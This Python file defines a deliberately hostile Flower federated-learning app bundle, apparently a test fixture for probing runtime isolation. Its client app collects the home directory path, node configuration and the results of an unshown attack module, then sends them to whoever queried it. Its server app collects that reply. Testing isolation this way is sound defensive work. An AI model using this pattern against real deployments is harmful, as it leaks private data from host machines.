"""A hostile app bundle: Flower's two apps around `hostile_courier`, which lies beside this file in the bundle."""

from __future__ import annotations

import json
from pathlib import Path

from evil import attack
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp

client = ClientApp()
server = ServerApp()


@client.query()
def carry(message, context):
    """Try everything, and send what was found to whoever asked."""
    asked = json.loads(Path(__file__).with_name("asked.json").read_text())
    asked["own"] = str(Path.home())
    found = attack.all_of(asked) | {"socket it was told": str(context.node_config)}
    return Message(RecordDict({"found": ConfigRecord({"found": json.dumps(found)})}), reply_to=message)


@server.main()
def main(grid, context):
    """Ask the first node there is, and keep what it sends."""
    nodes = []
    while not nodes:
        nodes = list(grid.get_node_ids())
    [reply] = grid.send_and_receive([Message(RecordDict(), nodes[0], "query")])
    text = reply.content["found"]["found"] if reply.has_content() else json.dumps({"error": str(reply.error)})
    out = Path(str(context.run_config["out"]))
    out.with_suffix(".part").write_text(text)
    out.with_suffix(".part").rename(out)
